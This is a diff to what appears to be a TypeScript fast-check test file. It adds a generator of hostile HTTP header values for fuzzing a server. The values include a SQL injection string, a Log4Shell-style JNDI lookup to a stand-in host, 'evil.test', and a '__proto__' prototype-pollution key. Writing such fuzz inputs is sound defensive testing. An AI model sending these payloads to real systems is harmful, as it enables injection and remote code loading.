@@ -55,6 +55,21 @@ export const badValue: fc.Arbitrary<unknown> = fc.oneof(
   { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
 );
 
+/** Headers that we read, with what nobody should send; a header carries bytes only, and no line break. */
+export const badHeader = fc
+  .tuple(
+    fc.constantFrom(
+      ...['idempotency-key', 'last-event-id', 'prefer', 'if-none-match', 'if-range', 'range', 'origin'],
+      ...['x-request-id', 'accept', 'referer', 'user-agent', 'x-forwarded-for', 'x-forwarded-host', 'host'],
+    ),
+    fc.oneof(
+      fc.constantFrom('', ' ', '*', '"', ',,,', 'W/', '-1', '1e99', 'wait=1e9', 'bytes=0-0,1-1', '__proto__'),
+      fc.constantFrom('null', "'; drop table users; --", '{jndi:ldap://evil.test/a}', 'x'.repeat(4_000)),
+      fc.string({ maxLength: 40 }).map((text) => text.replace(/[^\x20-\x7e]/g, '?')),
+    ),
+  )
+  .map(([name, value]) => ({ [name]: value }));
+
 /** Bodies that are no JSON object at all, or that try to reach an object's prototype. */
 export const badBody = fc.constantFrom(
   '',
